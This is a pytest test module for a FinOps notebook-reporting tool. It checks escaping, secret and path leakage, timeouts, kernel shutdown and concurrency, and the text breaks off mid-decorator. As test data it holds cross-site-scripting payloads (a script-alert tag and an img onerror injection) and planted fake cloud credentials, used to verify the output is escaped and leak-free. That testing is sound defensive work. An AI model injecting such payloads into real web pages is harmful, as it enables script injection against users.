"""finops-kit report: parameter validation, failing notebooks, index, escaping, no secrets, determinism, timeouts.

The expensive part (kernels) is shared: one ``--all`` run over a folder holding the smoke fixture notebook and a
copy that fails on purpose, with planted fake credentials in the environment and hostile parameter values.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
import tempfile
import time
from decimal import Decimal
from pathlib import Path

import nbformat
import pandas as pd
import pytest

import finops_kit as fk
from finops_kit import charts as ch
from finops_kit import notebook as nb
from finops_kit import report
from finops_kit import warehouse as warehouse_mod
from finops_kit.cli import main as cli_main
from finops_kit.errors import ConfigError
from finops_kit.testing import focus_rows

FIXTURE_NB = Path(__file__).resolve().parent / "fixtures" / "notebooks" / "report_smoke.ipynb"
XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = '"><img src=x onerror=alert(1)>'
PLANTED = {
    "AWS_SECRET_ACCESS_KEY": "FAKEsecretKEYwJalrXUtnFEMI0K7MDENGbPxRfiCY",
    "AWS_ACCESS_KEY_ID": "AKIAFAKEPLANTED12345",
    "AWS_SESSION_TOKEN": "FwoGZXIvYXdzEFAKEsessionTOKEN0987654321",
    "MY_SERVICE_API_TOKEN": "tok-planted-0123456789abcdef",
    "AZURE_CLIENT_SECRET": "azure-planted-secret-value-42",
}

pytestmark = pytest.mark.slow


def _make_warehouse(path: Path) -> Path:
    con = fk.connect(str(path), write=True)
    focus_rows([
        dict(cost="10.50", day="2026-09-03", tags={"team": "vision"}),
        dict(cost="20.25", day="2026-10-03", tags={"team": XSS_SCRIPT}, ProviderName="Google Cloud"),
        dict(cost="5", day="2026-10-04", tags={"team": XSS_IMG}, ProviderName="Microsoft"),
        dict(cost="7.125", day="2026-10-05", tags=None),
    ], con)
    con.close()
    return path


def _set_default(src: Path, dst: Path, **defaults: object) -> None:
    """Copy a notebook, changing defaults in its parameters cell."""
    book = nbformat.read(str(src), as_version=4)
    cell = next(c for c in book.cells if "parameters" in c.metadata.get("tags", []))
    for k, v in defaults.items():
        cell.source = re.sub(rf"^{k} = .*$", f"{k} = {v!r}", cell.source, flags=re.MULTILINE)
    nbformat.write(book, str(dst))


def _strip_scripts(text: str) -> str:
    return re.sub(r"<script\b[^>]*>.*?</script>", "", text, flags=re.DOTALL | re.IGNORECASE)


@pytest.fixture(scope="module")
def suite(tmp_path_factory):
    """One ``finops-kit report --all`` run: smoke (ok) + broken (fails) + _private (ignored)."""
    root = tmp_path_factory.mktemp("suite")
    books = root / "books"
    books.mkdir()
    shutil.copy(FIXTURE_NB, books / "smoke.ipynb")
    _set_default(FIXTURE_NB, books / "broken.ipynb", fail=True)
    shutil.copy(FIXTURE_NB, books / "_private.ipynb")
    wh = _make_warehouse(root / "wh.duckdb")
    cfg = root / "finops.yaml"
    cfg.write_text("reports:\n  timeout_cell: 300\n", encoding="utf-8")
    out = root / "out"
    saved = dict(os.environ)
    os.environ.update(PLANTED)
    try:
        code = cli_main(["report", "--all", "--notebooks-dir", str(books), "--warehouse", str(wh),
                         "--out", str(out), "--config", str(cfg), "-p", f"team={XSS_SCRIPT}",
                         "-p", "dump_env=true"])
    finally:
        os.environ.clear()
        os.environ.update(saved)
    index = json.loads((out / "index.json").read_text())
    return {"code": code, "out": out, "wh": wh, "cfg": cfg, "books": books,
            "reports": {Path(r["notebook"]).stem: r for r in index["reports"]}}


def test_failing_notebook_does_not_stop_the_others_and_exit_code_is_nonzero(suite):
    assert suite["code"] == 1
    reps = suite["reports"]
    assert set(reps) == {"smoke", "broken"}  # _private.ipynb is not part of --all
    assert reps["smoke"]["status"] == "ok" and reps["broken"]["status"] == "failed"
    assert "ValueError" in reps["broken"]["error"] and "planted failure" in reps["broken"]["error"]
    for r in reps.values():  # HTML and executed notebook side by side, inside the output folder
        assert (suite["out"] / r["html"]).is_file() and (suite["out"] / r["ipynb"]).is_file()
        assert r["html"].startswith(Path(r["notebook"]).stem + "__team-")


def test_error_page_links_executed_notebook_and_shows_failing_cell(suite):
    r = suite["reports"]["broken"]
    page = (suite["out"] / r["html"]).read_text()
    assert "finops-error-banner" in page and "This report <b>" not in page
    assert f'href="{r["ipynb"]}"' in page
    assert "planted failure" in page and 'class="ne">ValueError' in page  # the failing cell's code...
    assert "Traceback (most recent call last)" in page  # ...and its traceback
    executed = nbformat.read(str(suite["out"] / r["ipynb"]), as_version=4)
    errors = [o for c in executed.cells if c.cell_type == "code" for o in c.get("outputs", [])
              if o.output_type == "error"]
    assert errors and errors[0].ename == "ValueError"
    # one numbering: the error names the failing cell by its execution count ("cell 5:", In [5] in the executed
    # notebook) and the page's banner does not give it another number (it said "cell 20" beside "cell 14")
    failing = next(c for c in executed.cells if c.cell_type == "code"
                   and any(o.output_type == "error" for o in c.get("outputs", [])))
    assert r["error"].startswith(f"cell {failing.execution_count}: ValueError")
    banner = re.search(r'class="finops-error-banner".*?</div>', page, re.DOTALL).group(0)
    assert set(re.findall(r"\bcell (\d+)", _strip_scripts(banner))) <= {str(failing.execution_count)}, banner


def test_index_lists_every_report_with_status_parameters_and_links(suite):
    page = (suite["out"] / "index.html").read_text()
    for r in suite["reports"].values():
        assert f'href="{r["html"]}"' in page and f'href="{r["ipynb"]}"' in page
    assert 'data-status="ok"' in page and 'data-status="failed"' in page
    assert "1 FAILED" in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and XSS_SCRIPT not in page  # the -p value, escaped
    assert suite["reports"]["smoke"]["parameters"]["team"] == XSS_SCRIPT


def test_index_is_a_cover_page_with_the_data_coverage(suite):
    """Per provider: periods, last day with data, open/closed by scope.completeness (the one rule), accounts;
    the input fingerprint and the reconciliation status; in index.json and on the page."""
    from finops_kit import scope as scope_mod

    index = json.loads((suite["out"] / "index.json").read_text())
    cov = index["coverage"]
    con = fk.connect(str(suite["wh"]), read_only=True)
    try:
        comp = scope_mod.completeness(con)
        shas = sorted(r[0] for r in con.sql("SELECT sha256 FROM (" + fk.fingerprint(con).sql_query()
                                            + ")").fetchall())
    finally:
        con.close()
    assert [p["provider"] for p in cov["providers"]] == sorted(set(comp["provider"]))
    for p in cov["providers"]:
        mine = comp[comp["provider"] == p["provider"]]
        assert [x["label"] for x in p["billing_periods"]] == list(mine["label"])
        assert p["open"] == list(mine.loc[~mine["closed"], "label"])
        assert p["last_day"] == str(max(mine["last_day"]))
        assert p["accounts"] and all(a["rows"] > 0 for a in p["accounts"])
    aws = next(p for p in cov["providers"] if p["provider"] == "AWS")
    assert aws["first_period"] == "2026-09" and aws["last_period"] == "2026-10"
    assert aws["open"] == ["1\u20135 Oct 2026, open"]  # charges up to the 5th; September is closed by October
    assert cov["input"]["files"] == len(shas)
    assert cov["reconciliation"]["status"]
    page = (suite["out"] / "index.html").read_text()
    assert "Data covered" in page and "1\u20135 Oct 2026, open" in page and "Reconciliation:" in page
    assert page.index("Data covered") < page.index("Reports, in reading order")


def _plain_notebook(path: Path, first_markdown: str, **finops: object) -> Path:
    book = nbformat.v4.new_notebook()
    book.cells = [nbformat.v4.new_markdown_cell(first_markdown), nbformat.v4.new_code_cell("1")]
    if finops:
        book.metadata["finops"] = dict(finops)
    nbformat.write(book, str(path))
    return path


def test_index_reading_order_and_questions_come_from_the_notebooks(tmp_path):
    """Order and one-line question are notebook metadata (finops.order / finops.question), so a new notebook
    slots in without code changes; without them: after the ordered ones, and the 'What this answers' text."""
    books = tmp_path / "books"
    books.mkdir()
    _plain_notebook(books / "aaa_storage.ipynb", "# Storage\n\n**What this answers.** Where *storage* money goes.\n\n"
                    "More text.")
    _plain_notebook(books / "overview.ipynb", "# Overview\n\nIntro.", order=1, question="Where does it all go?")
    _plain_notebook(books / "zz_costs.ipynb", "# Costs\n\n*Which team drives the bill?*\n\nDetail.", order=5)
    infos = {i.name: i for i in (report.read_notebook_info(p) for p in report.discover(books))}
    assert infos["overview"].order == 1 and infos["overview"].question == "Where does it all go?"
    assert infos["aaa_storage"].order == report.DEFAULT_ORDER
    assert infos["aaa_storage"].question == "Where storage money goes."
    assert infos["zz_costs"].question == "Which team drives the bill?"
    out = tmp_path / "out"
    out.mkdir()
    results = []
    for info in infos.values():
        (out / f"{info.name}.html").write_text("x")
        results.append(report.ReportResult(
            name=info.name, notebook=info.name, title=info.title, status="ok", parameters={}, html=f"{info.name}.html",
            ipynb=None, started="2026-12-03T00:00:00Z", duration_s=1.0, order=info.order, question=info.question))
    report.write_index(out, results)
    index = json.loads((out / "index.json").read_text())
    assert [r["name"] for r in index["reports"]] == ["overview", "zz_costs", "aaa_storage"]
    page = (out / "index.html").read_text()
    assert page.index("overview.html") < page.index("zz_costs.html") < page.index("aaa_storage.html")
    assert "Where does it all go?" in page and "Which team drives the bill?" in page


def test_warehouse_and_config_injected_relative_to_the_project(suite):
    params = suite["reports"]["smoke"]["parameters"]
    assert params["warehouse"] == os.path.relpath(suite["wh"].resolve(), Path.cwd().resolve())
    assert params["config_path"] == os.path.relpath(suite["cfg"].resolve(), Path.cwd().resolve())
    assert (Path.cwd() / params["warehouse"]).resolve() == suite["wh"].resolve()  # the kernels' cwd finds it
    assert params["dump_env"] is True and "top" not in params  # YAML-parsed bool; defaults stay in the notebook


def _absolute_paths(text: str) -> list[str]:
    """Absolute local paths in ``text``: '/<a top-level folder of this machine>/...' not inside a URL or a
    relative path (``../../tmp/x`` is relative)."""
    tops = "|".join(re.escape(d) for d in os.listdir("/") if os.path.isdir(os.path.join("/", d)))
    return re.findall(rf"(?<![\w.:/~-])/(?:{tops})/[^\s\"'<>]*", text)


def test_no_absolute_local_path_in_any_output_file(suite):
    """Not the project's, the warehouse's (a temp folder here) nor the config's, in the page, the executed
    notebook (papermill's injected cell and metadata, the header's parameters) or the index; tracebacks too."""
    roots = [str(Path.cwd().resolve()), str(suite["wh"].parent.resolve()), str(Path.home())]
    files = [f for f in suite["out"].iterdir() if f.suffix in (".html", ".ipynb", ".json")]
    assert {f.suffix for f in files} == {".html", ".ipynb", ".json"}
    for f in files:
        text = f.read_text(encoding="utf-8")
        if f.suffix == ".html":
            text = _strip_scripts(text) + "".join(  # the page's data (widget state, chart specs), not the bundles
                m for m in re.findall(r"<script\b[^>]*>(.*?)</script>", text, flags=re.DOTALL) if len(m) < 100_000)
        assert _absolute_paths(text) == [], f"{f.name}: {_absolute_paths(text)[:3]}"
        for root in roots:
            assert f'"{root}' not in text and f"&quot;{root}" not in text and f" {root}/" not in text, (f.name, root)


def test_no_secret_in_any_output_file(suite):
    files = list(suite["out"].iterdir())
    assert len(files) >= 6
    for f in files:
        text = f.read_text(encoding="utf-8")
        for name, value in PLANTED.items():
            assert value not in text, f"{name} leaked into {f.name}"
    smoke = nbformat.read(str(suite["out"] / suite["reports"]["smoke"]["ipynb"]), as_version=4)
    dumped = "".join(o.get("text", "") for c in smoke.cells if c.cell_type == "code" for o in c.outputs
                     if o.output_type == "stream")
    assert "FINOPS_REPORT" in dumped  # the environment really was printed...
    assert "AWS_SECRET_ACCESS_KEY" not in dumped  # ...without the credentials (removed from the kernel env)


def test_data_values_escaped_in_tables_titles_and_tracebacks(suite):
    for r in suite["reports"].values():
        page = (suite["out"] / r["html"]).read_text()
        assert XSS_SCRIPT not in page  # in <script> JSON, '</' is escaped as '<\/'
        visible = _strip_scripts(page)
        assert "<img src=x" not in visible
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in visible  # shown as text in the header/table
        assert "<b>boom</b>" not in visible
    smoke = (suite["out"] / suite["reports"]["smoke"]["html"]).read_text()
    # the table cell shows the value as text (its quote escaped or not: inert in a text node either way)
    assert re.search(r'(?:"|&quot;)&gt;&lt;img src=x onerror=alert\(1\)&gt;</td>', smoke)
    assert _document(smoke).count('"><img src=x onerror=alert(1)>') >= 1  # the browser's text, not a tag


def test_report_is_self_contained(suite):
    page = (suite["out"] / suite["reports"]["smoke"]["html"]).read_text()
    srcs = _resource_urls(page)
    assert srcs and all(s.startswith("data:") for s in srcs), srcs
    # none of the stock template's CDN loaders (the inlined widget manager's own code mentions CDNs, but only
    # uses them for third-party widget modules; the browser test proves no request is made)
    assert "embed-amd.js" not in page and "MathJax.Hub.Config" not in page and "mermaid.esm" not in page
    assert page.count("window.vegaEmbed=") == 1  # the Vega bundle once per page
    assert page.count('class="finops-chart') == 2
    assert "application/vnd.jupyter.widget-state+json" in page and "CONTROL_COMM_PROTOCOL_VERSION" in page
    assert nb.LIVE_ONLY_NOTE in page


def _resource_urls(page: str) -> list[str]:
    """src/href of every element that loads something (script bodies are CDATA to the parser)."""
    from html.parser import HTMLParser

    urls: list[str] = []

    class P(HTMLParser):
        def handle_starttag(self, tag, attrs):
            d = dict(attrs)
            if tag in ("script", "img", "iframe", "source", "video", "audio", "embed") and d.get("src"):
                urls.append(d["src"])
            if tag == "link" and d.get("href"):
                urls.append(d["href"])

    P().feed(page)
    return urls


def _numbers(path: Path) -> list[str]:
    """Every output of an executed notebook except the header (run time) and widget views (random ids)."""
    book = nbformat.read(str(path), as_version=4)
    out = []
    for c in book.cells:
        for o in c.get("outputs", []):
            if o.get("metadata", {}).get(nb.META_KEY) == "header":
                continue
            if o.output_type == "stream":
                out.append(o.text)
            elif "data" in o and "application/vnd.jupyter.widget-view+json" not in o.data:
                out.append(json.dumps({k: v for k, v in o.data.items()}, sort_keys=True))
    return out


def test_two_runs_give_equal_numbers(suite, tmp_path):
    out2 = tmp_path / "again"
    code = cli_main(["report", "smoke", "--notebooks-dir", str(suite["books"]), "--warehouse", str(suite["wh"]),
                     "--out", str(out2), "--config", str(suite["cfg"]), "-p", f"team={XSS_SCRIPT}",
                     "-p", "dump_env=false"])
    assert code == 0
    first = _numbers(suite["out"] / suite["reports"]["smoke"]["ipynb"])
    name = suite["reports"]["smoke"]["ipynb"].replace("dump_env-true", "dump_env-false")
    second = _numbers(out2 / name)
    first = ["".join(line for line in x.splitlines(keepends=True) if "FINOPS_REPORT" not in line)
             for x in first]  # the env dump exists only in run 1
    assert first == second
    assert any("total effective cost: 42.875000" in x for x in second)
    # the index of a folder accumulates reports: run again with other parameters, both listed
    idx = json.loads((out2 / "index.json").read_text())
    assert [r["status"] for r in idx["reports"]] == ["ok"]


def test_code_is_folded_by_default_with_the_parameters_as_a_table(suite):
    page = (suite["out"] / suite["reports"]["smoke"]["html"]).read_text()
    book = nbformat.read(str(suite["out"] / suite["reports"]["smoke"]["ipynb"]), as_version=4)
    code_cells = [c for c in book.cells if c.cell_type == "code"]
    injected = [c for c in code_cells if "injected-parameters" in c.metadata.get("tags", [])]
    assert len(injected) == 1
    # every code cell but papermill's is folded (still in the page: 'show code' reveals it), none is open
    assert page.count('<details class="finops-code">') == len(code_cells) - 1
    assert "<details class=\"finops-code\" open" not in page and "hl-ipython3" in page
    assert 'class="finops-code-toggle"' in page and "Show all code" in page
    assert "<div class=\"jp-InputPrompt" not in page  # no In [n]: column beside folded code
    # the injected parameters once, as a table (not as code), with the values the notebook ran with
    table = re.search(r'<table class="finops-params">.*?</table>', page, flags=re.DOTALL).group(0)
    assert "<th>team</th>" in table and "&lt;script&gt;" in table and "<th>dump_env</th><td><code>true" in table
    assert "# Parameters" not in page  # papermill's injected source is not shown


def test_show_code_gives_the_notebook_layout(suite, tmp_path):
    code = cli_main(["report", "smoke", "--notebooks-dir", str(suite["books"]), "--warehouse", str(suite["wh"]),
                     "--out", str(tmp_path), "--show-code"])
    assert code == 0
    page = (tmp_path / "smoke.html").read_text()
    assert '<details class="finops-code">' not in page and '<table class="finops-params">' not in page
    assert "<div class=\"jp-InputPrompt" in page and "hl-ipython3" in page
    assert "# Parameters" in page  # papermill's injected cell, as code
    assert _absolute_paths(_strip_scripts(page)) == []


@pytest.mark.parametrize(("argv", "yaml_text", "expected"), [
    ([], "", "folded"),
    (["--show-code"], "reports:\n  code: hidden\n", "shown"),
    ([], "reports:\n  code: shown\n", "shown"),
    ([], "reports:\n  hide_code: true\n", "hidden"),
    (["--fold-code"], "reports:\n  hide_code: true\n", "folded"),
])
def test_code_mode_from_command_line_and_config(tmp_path, monkeypatch, argv, yaml_text, expected):
    import argparse

    monkeypatch.chdir(tmp_path)
    cfg = tmp_path / "finops.yaml"
    cfg.write_text(yaml_text or "{}\n", encoding="utf-8")
    parser = argparse.ArgumentParser()
    report.configure_parser(parser)
    args = parser.parse_args(["--all", "--config", str(cfg), *argv])
    assert report._settings(args)["code"] == expected


def test_show_and_hide_code_together_is_a_usage_error(capsys):
    with pytest.raises(SystemExit) as exc:
        cli_main(["report", "--all", "--show-code", "--hide-code"])
    assert exc.value.code == 2 and "not allowed with" in capsys.readouterr().err


def test_localize_paths_rewrites_local_paths_only(tmp_path):
    root = tmp_path / "project"
    text = (f'warehouse = "{root}/data/wh.duckdb"; see {tmp_path}/other.csv; file://{root}/x.html; '
            "cost/hour, $/GPU/hour, https://example.com/usr/lib/x, ../usr/lib/y, /nonexistent-top/a/b")
    out = report.localize_paths(text, root)
    assert out == ('warehouse = "data/wh.duckdb"; see ../other.csv; x.html; '
                   "cost/hour, $/GPU/hour, https://example.com/usr/lib/x, ../usr/lib/y, /nonexistent-top/a/b")


def test_hide_code(suite, tmp_path):
    code = cli_main(["report", "smoke", "--notebooks-dir", str(suite["books"]), "--warehouse", str(suite["wh"]),
                     "--out", str(tmp_path), "--hide-code"])
    assert code == 0
    page = (tmp_path / "smoke.html").read_text()
    assert "hl-ipython3" not in page and "nb.setup" not in page  # no highlighted code cell
    assert page.count('class="finops-chart') == 2


# -- timeouts --------------------------------------------------------------------------------------------------

def _tiny_notebook(path: Path, body: str) -> Path:
    book = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell("sleep_s = 0.0")
    params.metadata["tags"] = ["parameters"]
    book.cells = [nbformat.v4.new_markdown_cell("# Tiny"), params, nbformat.v4.new_code_cell(body)]
    book.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(book, str(path))
    return path


def _job(path: Path, **params) -> report.Job:
    info = report.read_notebook_info(path)
    return report.plan([info], {k: (str(v), v) for k, v in params.items()}, {}, "unused", None)[0]


def test_cell_timeout_is_retried_once_and_reported(tmp_path):
    book = _tiny_notebook(tmp_path / "slow.ipynb", "import time\ntime.sleep(sleep_s)\nprint('done')")
    [r] = report.run_jobs([_job(book, sleep_s=60.0)], tmp_path / "out", timeout_cell=2, timeout_notebook=100)
    assert r.status == "timeout" and r.attempts == 2
    assert r.error.startswith("cell timeout")
    executed = nbformat.read(str(tmp_path / "out" / r.ipynb), as_version=4)
    assert "time.sleep" in executed.cells[r.failed_cell].source  # index counts papermill's injected cell
    assert executed.cells[r.failed_cell].outputs[-1].ename == "Timeout"
    page = (tmp_path / "out" / r.html).read_text()
    assert "TIMED OUT" in page and "cell timeout" in page
    assert json.loads((tmp_path / "out" / "index.json").read_text())["reports"][0]["status"] == "timeout"


def test_notebook_timeout_bounds_the_whole_notebook(tmp_path):
    body = "import time\nfor _ in range(3):\n    time.sleep(sleep_s)"
    book = _tiny_notebook(tmp_path / "slow.ipynb", body)
    [r] = report.run_jobs([_job(book, sleep_s=1.5)], tmp_path / "out", timeout_cell=100, timeout_notebook=2.5,
                          retries=0)
    assert r.status == "timeout" and r.attempts == 1 and r.error.startswith("notebook timeout")
    assert r.duration_s < 30


# -- terminal --------------------------------------------------------------------------------------------------

def test_kernels_use_ipc_and_the_terminal_gets_one_line_per_report(tmp_path, capfd):
    """No "Kernel is running over TCP without encryption" (the kernel's own stderr is captured at the fd level):
    kernels talk over per-kernel Unix sockets, removed afterwards; without a TTY each report is one line."""
    body = "from ipykernel import get_connection_info\nimport json\nprint(json.loads(get_connection_info())['transport'])"
    book = _tiny_notebook(tmp_path / "tiny.ipynb", body)
    [r] = report.run_jobs([_job(book)], tmp_path / "out", timeout_cell=60, timeout_notebook=120)
    assert r.status == "ok", r.error
    err = capfd.readouterr().err
    assert "without encryption" not in err and "WARNING" not in err, err
    assert [line for line in err.splitlines() if line.strip()] == [
        f"[1/1] tiny: ok ({r.duration_s:.1f} s) -> {tmp_path / 'out' / 'tiny.html'}"]
    executed = nbformat.read(str(tmp_path / "out" / r.ipynb), as_version=4)
    assert executed.cells[-1].outputs[0].text.strip() == "ipc"
    assert not list(Path(tempfile.gettempdir()).glob(f"finops-kit-{os.getpid()}-*-ipc*"))  # sockets removed



def test_kernel_shutdown_sends_no_interrupt_but_interrupt_still_works(monkeypatch):
    """jupyter_client sends SIGINT to every kernel before shutting it down; an idle report kernel then logged
    "[IPKernelApp] ERROR | KeyboardInterrupt caught in kernel" to the terminal (2 and 5 such lines in two runs of
    the six reports, at random). The report's kernel manager skips that interrupt; an explicit one still goes."""
    import asyncio

    from jupyter_client import AsyncKernelManager

    sent: list[bool] = []
    base = AsyncKernelManager._async_interrupt_kernel

    async def spy(self) -> None:
        sent.append(self.shutting_down)
        await base(self)

    monkeypatch.setattr(AsyncKernelManager, "_async_interrupt_kernel", spy)

    async def run() -> None:
        km = report.ipc_kernel_manager()(kernel_name="python3")
        await km.start_kernel(extra_arguments=list(report.KERNEL_ARGUMENTS))
        try:
            await km._async_interrupt_kernel()  # an interrupt outside shutdown (a cell over its timeout) is sent
        finally:
            await km.shutdown_kernel()

    asyncio.run(run())
    assert sent == [False]  # the explicit interrupt only, none while shutting down


#: Makes a kernel's control thread block after it has replied to the shutdown request: what ipykernel 7 does when
#: its post-reply stdout flush waits on the IOPub thread the main thread is stopping (the main thread then waits
#: for the control thread). Seen in 2 of 12 empty notebooks in a run, each 3.5-4 s longer than the others.
_CONTROL_THREAD_HANGS_AFTER_SHUTDOWN_REPLY = """
import time
_kernel = get_ipython().kernel
_reply = _kernel.control_handlers["shutdown_request"]
async def _reply_then_hang(*args, **kwargs):
    await _reply(*args, **kwargs)
    time.sleep(30)
_kernel.control_handlers["shutdown_request"] = _reply_then_hang
"""


def test_a_kernel_stuck_after_its_shutdown_reply_is_stopped_within_a_second():
    """jupyter_client waits half its shutdown_wait_time (5 s) before SIGTERM: a report kernel caught in ipykernel's
    shutdown race cost 2.5 s more than one that exits (the report kernel manager waits 1 s in all)."""
    import asyncio

    async def run() -> float:
        km = report.ipc_kernel_manager()(kernel_name="python3")
        await km.start_kernel(extra_arguments=list(report.KERNEL_ARGUMENTS))
        kc = km.client()
        kc.start_channels()
        try:
            await kc.wait_for_ready(timeout=60)
            reply = await kc.execute_interactive(_CONTROL_THREAD_HANGS_AFTER_SHUTDOWN_REPLY, timeout=60)
            assert reply["content"]["status"] == "ok"
        finally:
            kc.stop_channels()
        t0 = time.monotonic()
        await km.shutdown_kernel()
        assert not await km.is_alive()
        return time.monotonic() - t0

    # 2.5 s at least before (SIGTERM after half of 5 s); about 0.6 s now, with room for a loaded machine
    assert asyncio.run(run()) < 2.0


def test_report_kernels_get_no_duckdb_progress_widget(monkeypatch):
    """Under load a DuckDB query over 2 s displayed a FloatProgress widget in the forecast report (and with it the
    1.9 MB widget manager); connections opened in a report kernel (FINOPS_REPORT=1) have the bar off."""
    monkeypatch.setenv("FINOPS_REPORT", "1")
    con = fk.connect(":memory:")
    assert con.sql("SELECT current_setting('enable_progress_bar')").fetchall() == [(False,)]
    con.close()


# -- concurrency -----------------------------------------------------------------------------------------------

def test_reports_run_concurrently_and_come_back_in_job_order(tmp_path):
    """Two reports with workers=2 execute at the same time (their sleeping cells overlap), each in its own kernel;
    the results and the index list both, in job order / reading order."""
    body = "import os, time\ntime.sleep(sleep_s)\nprint(os.getpid())"
    first = _tiny_notebook(tmp_path / "first.ipynb", body)
    second = _tiny_notebook(tmp_path / "second.ipynb", body)
    jobs = [_job(first, sleep_s=4.0), _job(second, sleep_s=4.0)]
    results = report.run_jobs(jobs, tmp_path / "out", timeout_cell=120, timeout_notebook=240, workers=2)
    assert [r.name for r in results] == [j.name for j in jobs] and all(r.status == "ok" for r in results)
    spans, pids = [], []
    for r in results:
        cell = nbformat.read(str(tmp_path / "out" / r.ipynb), as_version=4).cells[-1]
        meta = cell.metadata["papermill"]
        spans.append((pd.Timestamp(meta["start_time"]), pd.Timestamp(meta["end_time"])))
        pids.append(cell.outputs[0].text.strip())
    (a0, a1), (b0, b1) = spans
    assert a0 < b1 and b0 < a1, spans  # the two cells ran at the same time
    assert pids[0] != pids[1]  # in two kernels
    index = json.loads((tmp_path / "out" / "index.json").read_text())
    assert sorted(r["name"] for r in index["reports"]) == sorted(j.name for j in jobs)


def test_report_kernels_share_the_cores_among_the_reports_running_at_once(tmp_path, monkeypatch):
    """DuckDB in each report kernel gets the cores divided among the reports that run at once (two kernels with
    DuckDB on every core each contend for the cores), unless FINOPS_DUCKDB_THREADS says otherwise."""
    monkeypatch.delenv(warehouse_mod.THREADS_ENV, raising=False)
    body = "import finops_kit as fk\nprint(fk.connect(':memory:').sql(\"SELECT current_setting('threads')\").fetchall()[0][0])"
    books = [_tiny_notebook(tmp_path / f"t{i}.ipynb", body) for i in range(2)]
    cores = report.available_cores()
    for workers, setting, expected in ((2, None, max(1, cores // 2)), (1, None, cores), (2, "3", 3)):
        if setting:
            monkeypatch.setenv(warehouse_mod.THREADS_ENV, setting)
        out = tmp_path / f"out-{workers}-{setting}"
        results = report.run_jobs([_job(b) for b in books], out, timeout_cell=120, timeout_notebook=240,
                                  workers=workers)
        for r in results:
            cell = nbformat.read(str(out / r.ipynb), as_version=4).cells[-1]
            assert cell.outputs[0].text.strip() == str(expected), (workers, setting)
    assert os.environ[warehouse_mod.THREADS_ENV] == "3"  # the runner restores the environment it found
    monkeypatch.setenv("FINOPS_REPORT", "0")
    monkeypatch.setenv(warehouse_mod.THREADS_ENV, "1")
    assert fk.connect(":memory:").sql("SELECT current_setting('threads')").fetchall() == [(1,)]


def test_jobs_setting(tmp_path):
    assert report._jobs_setting(None, None, "f.yaml") is None
    assert report._jobs_setting(3, 1, "f.yaml") == 3 and report._jobs_setting(None, 2, "f.yaml") == 2
    for bad in (0, -1, True, "2", 1.5):
        with pytest.raises(ConfigError, match="reports.jobs must be a positive integer"):
            report._jobs_setting(None, bad, "f.yaml")
    with pytest.raises(ConfigError, match="--jobs must be 1 or more"):
        report._jobs_setting(0, None, "f.yaml")
    assert report.available_cores() >= 1


# -- widgets ---------------------------------------------------------------------------------------------------

def test_widget_manager_only_when_a_widget_is_displayed(tmp_path):
    """A widget created but never displayed (an explorer behind nb.live_only in a report) leaves its state in the
    notebook; the page carries neither that state nor the 1.9 MB manager. A displayed one gets both."""
    body = ("import ipywidgets as w\nslider = w.IntSlider(value=3)\n"
            "if sleep_s > 0:\n    display(slider)\nprint('made')")
    book = _tiny_notebook(tmp_path / "quiet.ipynb", body)
    shown = _tiny_notebook(tmp_path / "shown.ipynb", body)
    jobs = [_job(book), _job(shown, sleep_s=1.0)]
    quiet, loud = report.run_jobs(jobs, tmp_path / "out", timeout_cell=60, timeout_notebook=120)
    assert quiet.status == loud.status == "ok"
    executed = nbformat.read(str(tmp_path / "out" / quiet.ipynb), as_version=4)
    assert executed.metadata.get("widgets") and report.widget_views(executed) == []
    page = (tmp_path / "out" / quiet.html).read_text()
    assert "CONTROL_COMM_PROTOCOL_VERSION" not in page and "widget-state+json" not in page
    assert len(page.encode()) < 2_000_000
    page = (tmp_path / "out" / loud.html).read_text()
    assert "CONTROL_COMM_PROTOCOL_VERSION" in page and "widget-state+json" in page



def test_live_only_feeds_its_explorer_only_live(monkeypatch):
    """``nb.live_only(..., refresh=f)`` runs ``f`` (which fills the explorer's Output widget) before showing the
    control live, and never in a report, where the control is not shown and Output-widget traffic can stall
    nbclient until the cell timeout."""
    import IPython.display

    from finops_kit import notebook as nbk

    shown, calls = [], []
    monkeypatch.setattr(IPython.display, "display", lambda *a, **k: shown.append(a[0]))
    monkeypatch.setitem(nbk._state, "mode", "report")
    nbk.live_only("CONTROL", static="DEFAULT VIEW", refresh=lambda: calls.append(len(shown)))
    assert calls == [] and "CONTROL" not in shown and "DEFAULT VIEW" in shown
    shown.clear()
    monkeypatch.setitem(nbk._state, "mode", "live")
    nbk.live_only("CONTROL", static="DEFAULT VIEW", refresh=lambda: calls.append(len(shown)))
    assert calls == [0] and shown == ["CONTROL"]  # filled once, before the control is displayed

# -- parameters (nothing runs) --------------------------------------------------------------------------------

@pytest.fixture()
def smoke_info():
    return report.read_notebook_info(FIXTURE_NB)


def test_parameters_cell_is_read_with_types_and_help(smoke_info):
    p = smoke_info.params
    assert smoke_info.title == "Smoke report"
    assert (p["top"].type, p["top"].default, p["top"].help) == ("int", 5, "how many providers to show")
    assert (p["scale"].type, p["fail"].type, p["teams"].type, p["team"].type) == ("float", "bool", "list", "str")
    assert p["team"].help == 'team tag to focus on ("" = all)'


@pytest.mark.parametrize(("pairs", "expected"), [
    (["top=7"], {"top": 7}),
    (["scale=2"], {"scale": 2.0}),
    (["fail=true"], {"fail": True}),
    (["team=123"], {"team": "123"}),            # a str parameter keeps the text as typed
    (["team=2026-10-01"], {"team": "2026-10-01"}),
    (["teams=[vision, nlp]"], {"teams": ["vision", "nlp"]}),
    (["teams=vision"], {"teams": ["vision"]}),
])
def test_cli_values_parsed_as_yaml_and_coerced(smoke_info, pairs, expected):
    [job] = report.plan([smoke_info], report.parse_parameters(pairs), {}, "/abs/wh.duckdb", "/abs/finops.yaml")
    for k, v in expected.items():
        assert job.parameters[k] == v and type(job.parameters[k]) is type(v)
    assert job.parameters["warehouse"] == os.path.relpath("/abs/wh.duckdb", Path.cwd().resolve())  # project-relative


@pytest.mark.parametrize(("pairs", "message"), [
    (["colour=red"], "unknown parameter 'colour'"),
    (["top=many"], "parameter 'top' expects an integer, got 'many'"),
    (["top=1.5"], "expects an integer"),
    (["fail=maybe"], "expects true or false"),
    (["scale=[1, 2]"], "expects a number"),
    (["team=[a, b]"], "expects a string"),
    (["warehouse=x.duckdb"], "--warehouse"),
    (["no-equals"], "NAME=VALUE"),
])
